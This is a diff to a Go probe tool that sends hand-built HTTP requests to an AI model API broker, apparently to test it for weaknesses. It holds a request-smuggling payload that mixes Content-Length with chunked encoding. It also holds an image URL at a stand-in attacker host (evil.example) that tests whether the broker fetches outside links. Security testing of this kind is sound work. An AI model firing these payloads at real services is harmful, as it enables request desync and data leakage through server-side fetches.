@@ -43,7 +43,7 @@ func req(method, target, auth, body string, extra ...string) string {
 	if !strings.Contains(strings.Join(extra, "\n"), "Transfer-Encoding") {
 		fmt.Fprintf(&b, "Content-Length: %d\r\n", len(body))
 	}
-	b.WriteString("Connection: close\r\n\r\n")
+	b.WriteString("\r\n")
 	b.WriteString(body)
 	return b.String()
 }
@@ -96,7 +96,7 @@ var probes = []probe{
 	{"cl_and_te", func(m string) string {
 		body := chat(m, "")
 		return fmt.Sprintf("POST /model HTTP/1.1\r\nHost: broker\r\nAuthorization: Bearer %s\r\nContent-Type: application/json\r\n"+
-			"Content-Length: %d\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n%x\r\n%s\r\n0\r\n\r\n", dummy, len(body), len(body), body)
+			"Content-Length: %d\r\nTransfer-Encoding: chunked\r\n\r\n%x\r\n%s\r\n0\r\n\r\n", dummy, len(body), len(body), body)
 	}},
 	{"media_url", func(m string) string {
 		return req("POST", "/model", dummy, `{"model":"x","messages":[{"role":"user","content":[{"type":"image_url","image_url":{"url":"https://evil.example/`+m+`.png"}}]}]}`)
@@ -116,6 +116,7 @@ var probes = []probe{
 type result struct {
 	Status int    `json:"status"` // 0: connection failed or closed without a response
 	Error  string `json:"error,omitempty"`
+	Body   string `json:"body,omitempty"` // the broker's answer, first 200 bytes
 }
 
 func send(raw string) result {
@@ -133,8 +134,8 @@ func send(raw string) result {
 		return result{Error: "read: " + err.Error()}
 	}
 	defer resp.Body.Close()
-	_, _ = io.Copy(io.Discard, io.LimitReader(resp.Body, 1<<20))
-	return result{Status: resp.StatusCode}
+	body, _ := io.ReadAll(io.LimitReader(resp.Body, 200))
+	return result{Status: resp.StatusCode, Body: strings.TrimSpace(string(body))}
 }
 
 func observe() map[string]any {
